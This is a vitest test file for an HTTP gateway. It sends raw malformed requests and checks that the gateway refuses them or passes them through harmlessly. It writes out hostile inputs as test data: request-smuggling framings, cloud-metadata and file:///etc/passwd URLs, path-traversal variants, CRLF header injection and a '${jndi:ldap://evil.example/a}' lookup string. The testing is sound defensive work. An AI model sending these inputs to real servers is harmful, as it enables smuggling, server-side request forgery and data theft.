/** Malformed requests, byte for byte: they are refused or closed, cause no upstream call, and do not affect others. */
import { describe, expect, it } from "vitest";

import { exchangeRaw } from "../support/ask.ts";
import { startGateway, type TestGateway } from "../support/gateway.ts";

const PASS_AREAS = 'upstream: { passThrough: ["/areas/*"] }';
const SMUGGLED = "GET /sold?limit=1 HTTP/1.1\r\nHost: x\r\n\r\n";

/** A request for areas with these lines for headers, `Host` included. */
function areas(...lines: string[]): string {
  return ["GET /areas?q=Nacka HTTP/1.1", ...lines, "", ""].join("\r\n");
}

/** One for another target, the last on its connection. */
function target(text: string, version = "HTTP/1.1"): string {
  return `GET ${text} ${version}\r\nHost: gateway.example\r\nConnection: close\r\n\r\n`;
}

interface Attack {
  readonly bytes: string;
  /** The statuses of all answers, in order. */
  readonly answers: readonly number[];
  /** The paths that the upstream sees; none where left out. */
  readonly upstream?: readonly string[];
}

const refused = (bytes: string, status = 400): Attack => ({ bytes, answers: [status] });
const served = (bytes: string, ...upstream: string[]): Attack => ({
  bytes,
  answers: upstream.map(() => 200),
  upstream,
});

/** RFC 9112, sections 6.1, 6.3 and 11.2. */
const SMUGGLING: Record<string, Attack> = {
  "length and chunks": refused(
    areas("Host: x", "Content-Length: 5", "Transfer-Encoding: chunked") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "chunks and length": refused(
    areas("Host: x", "Transfer-Encoding: chunked", "Content-Length: 5") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "two lengths that differ": refused(
    areas("Host: x", "Content-Length: 0", `Content-Length: ${SMUGGLED.length}`) + SMUGGLED,
  ),
  "two lengths that agree": refused(areas("Host: x", "Content-Length: 5", "Content-Length: 5") + "abcde"),
  "a list of lengths": refused(areas("Host: x", "Content-Length: 5, 5") + "abcde"),
  "a negative length": refused(areas("Host: x", "Content-Length: -5") + "abcde"),
  "a hexadecimal length": refused(areas("Host: x", "Content-Length: 0x5") + "abcde"),
  "a length in two parts": refused(areas("Host: x", "Content-Length: 1 0") + SMUGGLED),
  "a length beyond all numbers": refused(areas("Host: x", `Content-Length: ${"9".repeat(30)}`) + "abcde"),
  "a blank before the length's colon": refused(areas("Host: x", "Content-Length : 5") + "abcde"),
  "a blank before the coding's colon": refused(
    areas("Host: x", "Transfer-Encoding : chunked") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "an unknown coding": refused(areas("Host: x", "Transfer-Encoding: xchunked") + `0\r\n\r\n${SMUGGLED}`),
  "a quoted coding": refused(areas("Host: x", 'Transfer-Encoding: "chunked"') + `0\r\n\r\n${SMUGGLED}`),
  "a coding behind a vertical tab": refused(
    areas("Host: x", "Transfer-Encoding: \x0bchunked") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "a coding behind another": refused(
    areas("Host: x", "Transfer-Encoding: gzip, chunked") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "a coding before another": refused(
    areas("Host: x", "Transfer-Encoding: chunked, identity") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "a coding after nothing": refused(areas("Host: x", "Transfer-Encoding: ,chunked") + `0\r\n\r\n${SMUGGLED}`),
  "no coding": refused(areas("Host: x", "Transfer-Encoding: identity") + SMUGGLED),
  "an empty coding": refused(areas("Host: x", "Transfer-Encoding: ") + SMUGGLED),
  "two codings": refused(
    areas("Host: x", "Transfer-Encoding: chunked", "Transfer-Encoding: identity") + `0\r\n\r\n${SMUGGLED}`,
  ),
  "chunks in HTTP/1.0": refused(
    `GET /areas?q=Nacka HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  ),
  "chunks that are not": served(
    `${areas("Host: x", "Transfer-Encoding: chunked")}zz\r\n${SMUGGLED}`,
    "/areas",
  ),
  "chunks without carriage returns": served(
    `${areas("Host: x", "Transfer-Encoding: chunked")}0\n\n${SMUGGLED}`,
    "/areas",
  ),
  "a request behind content": served(`${areas("Host: x", "Content-Length: 3")}abc${SMUGGLED}`, "/areas"),
  "a request behind content in chunks": served(
    `${areas("Host: x", "Transfer-Encoding: Chunked")}0\r\n\r\n${SMUGGLED}`,
    "/areas",
  ),
  "a request within content": served(
    areas("Host: x", `Content-Length: ${SMUGGLED.length}`) + SMUGGLED,
    "/areas",
  ),
  "a request behind the last one": served(areas("Host: x", "Connection: close") + SMUGGLED, "/areas"),
  "content that never comes": served(areas("Host: x", "Content-Length: 1000000"), "/areas"),
  "content with a method that has some": refused(
    `POST /areas HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n${SMUGGLED}`,
    405,
  ),
};

/** RFC 9112, sections 2.2, 2.3, 5 and 5.2. */
const BROKEN: Record<string, Attack> = {
  "lines that end with a line feed alone": refused("GET /areas?q=Nacka HTTP/1.1\nHost: x\n\n"),
  "a header that ends with a line feed alone": refused("GET /areas HTTP/1.1\r\nHost: x\nA: b\r\n\r\n"),
  "an end that is a line feed alone": refused(`GET /areas HTTP/1.1\r\nHost: x\r\n\n${SMUGGLED}`),
  "carriage returns alone": refused("GET /areas HTTP/1.1\rHost: x\r\r\r\n\r\n"),
  "a carriage return in a header": refused("GET /areas HTTP/1.1\r\nHost: x\r\nA: b\rC: d\r\n\r\n"),
  "a folded first header": refused("GET /areas HTTP/1.1\r\n Host: x\r\n\r\n"),
  "NUL in a header": refused("GET /areas HTTP/1.1\r\nHost: x\r\nA: b\0c\r\n\r\n"),
  "an escape in a header": refused("GET /areas HTTP/1.1\r\nHost: x\r\nA: \x1b[31m\r\n\r\n"),
  "NUL in a header's name": refused("GET /areas HTTP/1.1\r\nHost: x\r\nA\0: b\r\n\r\n"),
  "NUL in the URL": refused(target("/areas\0")),
  "a tab in the URL": refused(target("/areas?q=a\tb")),
  "the line's end in the URL": refused("GET /areas\r\nX-Evil: yes HTTP/1.1\r\nHost: x\r\n\r\n"),
  "a header without a colon": refused(areas("Host: x", "nonsense")),
  "no version": refused("GET /areas?q=Nacka\r\n\r\n"),
  "another version": refused(target("/areas", "HTTP/1.2")),
  "the version 2.0": refused(target("/areas?q=Nacka", "HTTP/2.0")),
  "the version in lower case": refused(target("/areas", "http/1.1")),
  "another protocol": refused("GET /areas ICE/1.0\r\nHost: x\r\n\r\n"),
  "the beginning of TLS": refused(
    `\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03${"\x7f".repeat(190)}\r\n\r\n`,
  ),
  "a method in lower case": refused("get /areas HTTP/1.1\r\nHost: x\r\n\r\n"),
  "a tunnel": refused("CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", 405),
  "TRACE, with what must not be echoed": refused(
    "TRACE /areas HTTP/1.1\r\nHost: x\r\nCookie: c00kie\r\n\r\n",
    405,
  ),
  "a URL that is too long": refused(target(`/areas?q=${"a".repeat(8_192)}`), 414),
  "a URL beyond all measure": refused(target(`/areas?q=${"a".repeat(200_000)}`), 431),
  "headers that are too large": refused(areas("Host: x", `A: ${"a".repeat(16_384)}`), 431),
  "headers beyond all measure": refused(areas("Host: x", `A: ${"a".repeat(200_000)}`), 431),
  "too many headers": refused(areas("Host: x", ...Array.from({ length: 100 }, (_, n) => `A-${n}: b`)), 431),
  "far too many headers": refused(
    areas("Host: x", ...Array.from({ length: 4_000 }, (_, n) => `A${n}:`)),
    431,
  ),
  "HTTP/1.0": served("GET /areas?q=Nacka HTTP/1.0\r\n\r\n", "/areas"),
  "empty lines before the request": served(`\r\n\r\n${areas("Host: x", "Connection: close")}`, "/areas"),
  "as many headers as may be": served(
    areas("Host: x", "Connection: close", ...Array.from({ length: 98 }, (_, n) => `A-${n}: b`)),
    "/areas",
  ),
  "a proper request and nonsense": {
    bytes: `${areas("Host: x")}nonsense\r\n\r\n`,
    answers: [200, 400],
    upstream: ["/areas"],
  },
  "a refused request, a proper one and nonsense": {
    bytes: `${areas("Host: a b")}${areas("Host: x")}\0\r\n\r\n`,
    answers: [400, 200, 400],
    upstream: ["/areas"],
  },
};

/** RFC 9112, sections 3.2 and 3.2.2 to 3.2.4; RFC 9110, sections 4.2.4 and 7.2. */
const ADDRESSED: Record<string, Attack> = {
  "two Hosts": refused(areas("Host: gateway.example", "Host: evil.example")),
  "the same Host twice": refused(areas("Host: x", "HOST: x")),
  "an empty Host": refused(areas("Host: ")),
  "blanks within Host": refused(areas("Host: gateway.example evil.example")),
  "a path in Host": refused(areas("Host: gateway.example/evil")),
  "a user in Host": refused(areas("Host: gateway.example@evil.example")),
  "a query in Host": refused(areas("Host: gateway.example?x")),
  "markup in Host": refused(areas("Host: <script>alert(1)</script>")),
  "a port that is no number in Host": refused(areas("Host: x:80a")),
  "two Hosts in one": refused(areas("Host: a, b")),
  "bytes that are not ASCII in Host": refused(areas("Host: g\xe5teway.example")),
  "somebody else's Host": served(areas("Host: evil.example:99", "Connection: close"), "/areas"),
  "an address as Host": served(areas("Host: [::1]:8080", "Connection: close"), "/areas"),
  "other headers that name a host": served(
    areas("Host: x", "X-Forwarded-Host: evil.example", "Forwarded: host=evil.example", "Connection: close"),
    "/areas",
  ),
  "an absolute URL": served(target("http://evil.example/areas?q=Nacka"), "/areas"),
  "an absolute URL with TLS and a port": served(target("HTTPS://evil.example:99/areas?q=Nacka"), "/areas"),
  "an absolute URL of the cloud's metadata": refused(target("http://169.254.169.254/latest/meta-data/"), 404),
  "an absolute URL without a path": refused(target("http://evil.example"), 404),
  "an absolute URL without a host": refused(target("http:///areas")),
  "an absolute URL with a user": refused(target("http://user:password@evil.example/areas")),
  "an absolute URL with a backslash": refused(target("http://evil.example\\areas")),
  "an absolute URL of another scheme": refused(target("ftp://evil.example/areas"), 404),
  "an absolute URL of a file": refused(target("file:///etc/passwd"), 404),
  "a URL without a scheme": refused(target("//evil.example/areas"), 404),
  "a URL as a path": refused(target("/http://evil.example/areas"), 404),
  "an authority": refused(target("evil.example:443")),
  "a name": refused(target("evil.example")),
  "an asterisk": refused(target("*"), 404),
  "an asterisk, with the method it is for": refused("OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", 404),
};

/** With `/areas/*` passed through: the one place where a caller's own path reaches the upstream. */
const PATHS: Record<string, Attack> = {
  up: refused(target("/areas/../sold"), 404),
  "up, encoded": refused(target("/areas/%2e%2e/sold"), 404),
  "up, encoded by half": refused(target("/areas/.%2E/sold"), 404),
  "up, the slashes encoded": refused(target("/areas/x%2f..%2f..%2fsold"), 404),
  "up, with backslashes": refused(target("/areas/..\\..\\sold"), 404),
  "up, with encoded backslashes": refused(target("/areas/x%5c..%5csold"), 404),
  "up, in UTF-8 that is too long": refused(target("/areas/%c0%ae%c0%ae/sold"), 404),
  "up, in an absolute URL": refused(target("http://evil.example/areas/../../sold"), 404),
  here: refused(target("/areas/./near"), 404),
  "up, from the thumbnails": refused(target("/cache/../../etc/passwd"), 404),
  "up, within a thumbnail": refused(target("/cache/primary_..%2f1_10x10.jpg"), 404),
  "up, from a record": refused(target("/listings/1/../../sold"), 404),
  "another path, encoded": served(target("/%61reas?q=Nacka"), "/areas"),
};

/** What reaches the upstream is one segment for one segment, every byte that means something encoded. */
const ENCODED: Record<string, readonly [path: string, upstream: string]> = {
  "up, encoded twice": ["/areas/%252e%252e/near", "/areas/%252e%252e/near"],
  "up, with a parameter": ["/areas/..;/near", "/areas/..%3B/near"],
  "a line's end": ["/areas/%0d%0aX-Evil:%20yes/near", "/areas/%0D%0AX-Evil%3A%20yes/near"],
  "a whole request": ["/areas/%20HTTP/1.1%0d%0aHost:%20x", "/areas/%20HTTP/1.1%0D%0AHost%3A%20x"],
  NUL: ["/areas/%00/near", "/areas/%00/near"],
  "a query": ["/areas/x%3fa=b%26c%23d/near", "/areas/x%3Fa%3Db%26c%23d/near"],
  "a fragment": ["/areas/x#y/near", "/areas/x%23y/near"],
};

/** The statuses of what came back, after checking that all that is no answer is a problem. */
function statusesIn(raw: string): number[] {
  const statuses = [...raw.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map(([, status]) => Number(status));
  const problems = raw.match(/^content-type: application\/problem\+json\r$/gim) ?? [];
  expect([raw, problems.length]).toEqual([raw, statuses.filter((status) => status >= 400).length]);
  expect(raw).not.toMatch(/^(x-evil|set-cookie):/im);
  expect(raw).not.toMatch(/c00kie|password|127\.0\.0\.1|node:|src\//);
  return statuses;
}

async function expectHarmless(
  gateway: TestGateway,
  { bytes, answers, upstream = [] }: Attack,
): Promise<void> {
  // A connection that ends is not waited for, with or without a request.
  const raw = await exchangeRaw(gateway.port, Buffer.from(bytes, "latin1"), { end: upstream.length === 0 });
  expect(statusesIn(raw)).toEqual(answers);
  expect((await gateway.get("/areas?q=Lund")).status).toBe(200);
  expect(gateway.sandbox.requests().map(({ path }) => path)).toEqual([...upstream, "/areas"]);
  for (const line of gateway.log) expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) });
}

describe.each([
  ["framing", SMUGGLING],
  ["form", BROKEN],
  ["address", ADDRESSED],
  ["path", PATHS],
])("a request with its %s spoilt", (_what, attacks) => {
  it.each(Object.entries(attacks))("by %s", async (_name, attack) => {
    const gateway = await startGateway({ settings: PASS_AREAS });
    await expectHarmless(gateway, attack);
  });
});

describe("a path that is passed through", () => {
  it.each(Object.entries(ENCODED))("keeps %s within its segment", async (_name, [path, upstream]) => {
    const gateway = await startGateway({ settings: PASS_AREAS });
    const raw = await exchangeRaw(gateway.port, target(path));
    expect(statusesIn(raw)).toHaveLength(1);
    expect(gateway.sandbox.requests().map(({ path }) => path)).toEqual([upstream]);
  });
});

describe("text from a caller", () => {
  const EVIL = [
    '"}\t{"level":"error","msg":"evil"}',
    "evil\xe5\xff",
    "evil; path=/, Set-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "e".repeat(129),
  ];
  it.each([
    "X-Request-Id",
    "X-App-Id",
    "User-Agent",
    "Prefer",
    "Accept-Language",
    "Referer",
    "X-Private-Key",
  ])("in %s is not in the log, the answer or the upstream request", async (name) => {
    const gateway = await startGateway();
    for (const [index, value] of EVIL.entries()) {
      const request = `GET /areas?q=${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
      const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
      expect(statusesIn(raw)).toEqual([200]);
      expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
    }
    await expect
      .poll(() => gateway.log.filter((line) => line.includes('"msg":"request"')).length)
      .toBe(EVIL.length);
    // An app id is in the log, cut to 64 harmless characters.
    const isAppId = name === "X-App-Id" || name === "User-Agent";
    expect(gateway.log.join("")).not.toMatch(isAppId ? /"evil"|e{65}|\$\{|evil;/ : /evil|e{129}|jndi/);
    const requests = gateway.sandbox.requests();
    expect(requests).toHaveLength(EVIL.length);
    for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
  });

  it.each([
    ["the path of nothing", "/%0d%0aSet-Cookie:%20evil=1", 404, []],
    ["a documented parameter", "/areas?q=a%0d%0aSet-Cookie:%20evil=1", 400, []],
    [
      "a parameter of query.allow",
      "/areas?x=%0d%0aSet-Cookie:%20evil=1",
      200,
      ["x=%0D%0ASet-Cookie%3A%20evil%3D1"],
    ],
    ["another parameter's name", "/areas?%0d%0aSet-Cookie=1", 400, []],
  ])("with line breaks in %s adds no header and no log line", async (_where, path, status, queries) => {
    const gateway = await startGateway({ settings: "query: { allow: [x] }" });
    expect(statusesIn(await exchangeRaw(gateway.port, target(path)))).toEqual([status]);
    expect(gateway.sandbox.requests().map(({ query }) => query.replace(/&?offset=0/, ""))).toEqual(queries);
    for (const line of gateway.log) expect(line.trim().split("\n")).toHaveLength(1);
  });
});
